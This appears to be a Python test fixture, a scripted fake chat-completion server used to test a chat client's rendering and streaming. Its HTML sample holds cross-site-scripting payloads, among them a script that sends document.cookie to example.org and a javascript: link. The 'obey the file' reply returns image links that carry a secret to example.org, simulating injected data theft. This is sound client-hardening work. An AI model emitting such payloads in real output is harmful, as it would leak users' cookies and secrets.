"""An engine for conversations: each question says which answer comes, good or bad."""

import asyncio
import json
import threading
from collections.abc import Awaitable, Callable

from painting import paint
from scripted_engine import Exchange, Script, ScriptedEngine, chunk, final_usage

HTML = """Here is a page:

<script>document.title = "taken over"; fetch("https://example.org/" + document.cookie)</script>
<img src="https://example.org/pixel.png?secret=1" onerror="document.title='taken over'">

![a picture](https://example.org/exfiltrate.png?q=secret) and [a link](https://example.org/page) and
[a trap](javascript:document.title='taken%20over').

<b>not bold</b> &amp; done."""

RICH = """## What a rainbow is

A rainbow is **refraction** and *reflection* of light in drops of water; see [Descartes](https://example.org/descartes).

1. White light enters a drop and bends.
2. It is reflected at the back of the drop.
3. It leaves, bent once more, each colour at its own angle:
   - red at about $42^\\circ$
   - violet at about $40^\\circ$

Snell's law tells how much it bends:

$$
n_1 \\sin\\theta_1 = n_2 \\sin\\theta_2
$$

| Colour | Wavelength (nm) | Angle |
|---|---:|---:|
| Red | 700 | 42.4° |
| Green | 530 | 41.6° |
| Violet | 400 | 40.5° |

```python
from math import asin, degrees, sin

def bend(angle: float, n: float = 1.333) -> float:
    \"\"\"The angle inside of the drop, by Snell's law.\"\"\"
    return degrees(asin(sin(angle) / n))  # in degrees
```

> The angle is the same for everybody, and yet nobody sees the same rainbow.
"""

ARABIC = "مرحبا! هذه إجابة **مهمة** من اليمين إلى اليسار، وفيها `code` ورقم 42."
HALF = "A **bold word, and [a link](https://example.or"


async def converse(exchange: Exchange) -> None:
    """The answer that the last question asks for, in words or as a picture."""
    if "/images/" in exchange.path:
        await paint(exchange)
        return
    body = exchange.body
    question = str(body["messages"][-1]["content"]).lower()
    for word, script in SCRIPTS.items():
        if word in question:
            await script(exchange)
            return
    await say(exchange, [f"You asked {body['model']}: ", question[-400:], "."])


async def say(exchange: Exchange, parts: list[str], pause_s: float = 0.0) -> None:
    """Those words, then a good end."""
    await exchange.begin()
    for count, part in enumerate(parts, 1):
        await exchange.part(chunk(part, tokens=count))
        await asyncio.sleep(pause_s)
    await exchange.part(chunk(None, finish="stop", tokens=len(parts)))
    await exchange.part(final_usage(len(parts)))
    await exchange.part(b"data: [DONE]\n\n")
    await exchange.end()


def _words(text: str, size: int = 6) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


async def _endless(exchange: Exchange) -> None:
    await exchange.begin()
    count = 0
    while True:
        count += 1
        await exchange.part(chunk(f"word{count} " if count % 30 else f"word{count}.\n\n", tokens=count))
        await asyncio.sleep(0.01)


async def _cut(exchange: Exchange) -> None:
    await exchange.begin()
    await exchange.part(chunk("This is as far as it", tokens=6))
    await asyncio.sleep(0.3)
    exchange.hang_up()


async def _calls_a_function(exchange: Exchange) -> None:
    """As models do that know tools, until they hear something of it."""
    if any(message["role"] == "tool" for message in exchange.body["messages"]):
        await say(exchange, ["Then I go on without the weather."])
        return
    function = {"name": "weather", "arguments": '{"place":"Bern","days":3}'}
    calls = [{"index": 0, "id": "call_1", "type": "function", "function": function}]
    await exchange.begin()
    for choice in ({"delta": {"tool_calls": calls}}, {"delta": {}, "finish_reason": "tool_calls"}):
        told = {"object": "chat.completion.chunk", "choices": [{"index": 0, **choice}]}
        await exchange.part(f"data: {json.dumps(told)}\n\n".encode())
    await exchange.part(b"data: [DONE]\n\n")
    await exchange.end()


async def _refused(exchange: Exchange) -> None:
    error = {
        "message": "Too many requests; wait 7 seconds.",
        "type": "requests",
        "param": None,
        "code": "rate_limit_exceeded",
    }
    await exchange.whole(429, {"error": error}, "retry-after: 7\r\n")


SCRIPTS: dict[str, Callable[[Exchange], Awaitable[None]]] = {
    "endless": _endless,
    "cut": _cut,
    "refuse": _refused,
    "obey the file": lambda exchange: say(
        exchange, ["![x](https://example.org/steal.png?q=SECRET) ", "and <img src=https://example.org/steal.gif>."]
    ),
    "never mind": _calls_a_function,
    "weather": _calls_a_function,
    "page of html": lambda exchange: say(exchange, _words(HTML, 40), 0.01),
    "long rainbow lecture": lambda exchange: say(exchange, _words(RICH * 8, 24), 0.02),
    "rainbow": lambda exchange: say(exchange, _words(RICH), 0.004),
    "arabic": lambda exchange: say(exchange, _words(ARABIC, 5), 0.02),
    "half": lambda exchange: say(exchange, _words(HALF, 3), 0.1),
    "megabyte": lambda exchange: say(exchange, ["```python\n", *(["print('a line of code')\n" * 400] * 110)], 0.01),
    "count slowly": lambda exchange: say(exchange, [f"{number} " for number in range(1, 61)], 0.05),
}


class ConversingEngine:
    """That engine in a thread of its own, beside tests that block."""

    def __init__(self, script: Script = converse) -> None:
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self.engine = ScriptedEngine(script=script)

    def __enter__(self) -> ScriptedEngine:
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self.engine.start(), self._loop).result(10)
        return self.engine

    def __exit__(self, *_: object) -> None:
        asyncio.run_coroutine_threadsafe(self.engine.stop(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)
